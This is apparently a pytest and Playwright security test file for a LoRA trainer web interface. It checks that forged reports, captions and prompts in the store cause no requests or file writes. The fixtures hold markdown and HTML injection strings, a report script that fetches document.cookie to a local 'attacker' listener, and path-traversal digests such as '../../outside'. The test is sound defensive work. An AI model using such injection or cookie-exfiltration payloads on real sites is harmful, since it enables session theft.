"""Forged manifests, reports and captions in the store have no effect on the page."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from lora_api.keys import JobKeys
from lora_api.manifest import FileEntry, Manifest, sha256_hex
from lora_api.profile import HubModel
from lora_trainer.demo.adapters import fetch_adapter
from lora_trainer.errors import BadDataError
from tests.support.demo_server import Demo, publish_another, serve

from .test_pages import assert_shown, choose, expect_alert, open_page


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """Run a server of an attacker, and return its address and the list of requested paths."""
    requested: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requested.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", requested
    server.shutdown()
    server.server_close()


FILE_NAME = "![x](y.png) [a](b) `c`.png"


def attack(address: str) -> str:
    return f"![x]({address}/markdown) <img src={address}/html> [y]({address}/link) :red[z]"


@pytest.fixture
def forged(demo: Demo, listener: tuple[str, list[str]]) -> Iterator[Manifest]:
    """Publish a job whose texts are all attacks, with a report that has scripts."""
    address, _ = listener
    keys = JobKeys("default", "forged", "forged-uid")
    report = (
        f"<h1>Forged</h1><img src={address}/report-image><form action={address}/form><button>go</button></form>"
        f"<script>fetch('{address}/script?' + parent.parent.document.cookie)</script>"
    ).encode()
    stored = demo.store.output.put(keys.report(1), report)
    preview = demo.finished.previews[0].model_copy(update={"prompt": attack(address)})
    publish_another(demo.store, demo.finished, "forged", 1.0, previews=[preview])
    row = json.dumps({"file_name": FILE_NAME, "text": f"Sure! Here is the caption: {attack(address)}"})
    demo.store.output.put(keys.captions, row.encode())
    manifest = Manifest.model_validate_json(demo.store.output.get(keys.manifest(1)))
    adapter = manifest.adapter.model_copy(update={"report_key": stored.key})
    manifest = manifest.model_copy(update={"adapter": adapter, "files": [*manifest.files, stored]})
    demo.store.output.put(keys.manifest(1), json.dumps(manifest.to_wire()).encode())
    yield manifest
    for item in demo.store.output.list(keys.root, 100):
        demo.store.output.remove(item.key)


def wait_for_catalog(page: Page) -> None:
    page.wait_for_timeout(10_500)  # the page keeps the list of the store for so long


def test_texts_of_the_store_stay_text_and_reports_have_no_rights(
    page: Page, demo: Demo, forged: Manifest, listener: tuple[str, list[str]], screenshots: Path
) -> None:
    _, requested = listener
    hosts: set[str] = set()
    page.on("request", lambda request: hosts.add(request.url.split("/")[2] if "//" in request.url else ""))
    wait_for_catalog(page)
    open_page(page, demo, "Jobs")
    assert_shown(page.get_by_alt_text(forged.previews[0].prompt, exact=True))
    page.goto(f"{demo.url}/jobs?report={forged.adapter.report_key}")
    report = page.locator("iframe").first.content_frame.locator("iframe")
    expect(report.content_frame.get_by_role("heading", name="Forged")).to_be_visible()
    assert report.get_attribute("sandbox") == ""
    page.screenshot(path=screenshots / "forged-report.png")
    open_page(page, demo, "Generate")
    choose(page, "forged")
    open_page(page, demo, "Captions")
    page.get_by_role("combobox", name="Job").click()
    page.get_by_role("option").filter(has_text="default/forged ").click()
    expect(page.get_by_text(FILE_NAME, exact=True)).to_be_visible()
    expect(page.get_by_text("a comment instead of a description")).to_be_visible()
    page.screenshot(path=screenshots / "forged-captions.png")
    page.wait_for_timeout(500)
    assert requested == []
    assert {host.partition(":")[0] for host in hosts if host} <= {"127.0.0.1", "localhost"}


def test_only_base_models_of_the_profile_are_offered(page: Page, demo: Demo) -> None:
    publish_another(
        demo.store,
        demo.finished,
        "unknown-base",
        1.0,
        base_model=HubModel(source="hub", repo="someone/model"),
    )
    wait_for_catalog(page)
    open_page(page, demo, "Generate")
    choose(page, "unknown-base")
    expect_alert(page, "is not in the profile 'default'")
    expect(page.get_by_role("button", name="Generate", exact=True)).to_be_disabled()


@pytest.mark.parametrize("digest", ["../../outside", "a" * 63 + "/", "A" * 64, ""])
def test_a_digest_that_is_a_path_touches_no_file(demo: Demo, tmp_path: Path, digest: str) -> None:
    victim = tmp_path / "outside.safetensors"
    victim.write_bytes(b"mine")
    folder = tmp_path / "cache" / "adapters"
    folder.mkdir(parents=True)
    entry = FileEntry.model_construct(key=demo.finished.files[0].key, bytes=1, sha256=digest)
    adapter = demo.finished.adapter.model_copy(update={"sha256": digest})
    manifest = demo.finished.model_copy(update={"adapter": adapter, "files": [entry]})
    with pytest.raises(BadDataError, match="no valid sha256"):
        fetch_adapter(demo.store.output, manifest, folder)
    assert victim.read_bytes() == b"mine"


def test_a_read_only_page_writes_no_captions(page: Page, demo: Demo) -> None:
    key = next(
        i.key for i in demo.store.output.list("default/quickstart/", 100) if i.key.endswith("metadata.jsonl")
    )
    before = sha256_hex(demo.store.output.get(key))
    with serve({**demo.settings, "LORA_READ_ONLY": "true"}) as url:
        page.goto(f"{url}/captions")
        expect(page.get_by_text("This page is read-only.")).to_be_visible()
        expect(page.get_by_role("textbox", name="000.png")).to_be_disabled()
        assert page.get_by_role("button", name="Save").count() == 0
        assert page.get_by_role("button", name="Approve").count() == 0
    assert sha256_hex(demo.store.output.get(key)) == before
